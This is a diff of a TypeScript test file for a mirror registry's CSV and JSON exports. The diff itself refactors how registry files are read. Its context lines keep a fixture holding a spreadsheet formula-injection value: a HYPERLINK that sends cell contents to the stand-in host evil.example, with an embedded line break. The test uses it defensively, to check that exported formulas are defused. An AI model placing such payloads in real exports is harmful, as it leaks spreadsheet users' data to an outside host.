@@ -1,6 +1,4 @@
 /** The mirror list for firewalls and scripts: CSV round trip, defused formulas, JSON schema. */
-import { readdirSync, readFileSync } from "node:fs";
-import { join } from "node:path";
 import { Ajv } from "ajv";
 import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
@@ -13,8 +11,9 @@ import {
 } from "../../src/core/exports/mirror-exports.ts";
 import { loadRegistry } from "../../src/core/load.ts";
 import type { StatusFile } from "../../src/core/types.ts";
+import { registryMirrorFiles } from "./registry-files.ts";
 
-const registry = loadRegistry({ mirrorsDir: "mirrors.d", configFile: "config.yml" });
+const registry = loadRegistry();
 const [first, second] = registry.mirrors.filter((m) => !m.private);
 if (!first || !second) throw new Error("the real registry has public mirrors");
 const hostileSponsor = '=HYPERLINK("https://evil.example/?"&A1,"click"), "quoted"\r\nnext line';
@@ -41,10 +40,8 @@ const status: StatusFile = {
 
 /** Every contact e-mail address of the real registry's files. */
 function registryEmails(): string[] {
-  const emails = readdirSync("mirrors.d").flatMap((f) =>
-    [...readFileSync(join("mirrors.d", f), "utf8").matchAll(/^\s*email:\s*["']?([^\s"']+@[^\s"']+)/gm)].map(
-      (m) => m[1] ?? "",
-    ),
+  const emails = registryMirrorFiles().flatMap(({ text }) =>
+    [...text.matchAll(/^\s*email:\s*["']?([^\s"']+@[^\s"']+)/gm)].map((m) => m[1] ?? ""),
   );
   expect(emails.length).toBeGreaterThan(500);
   return emails;
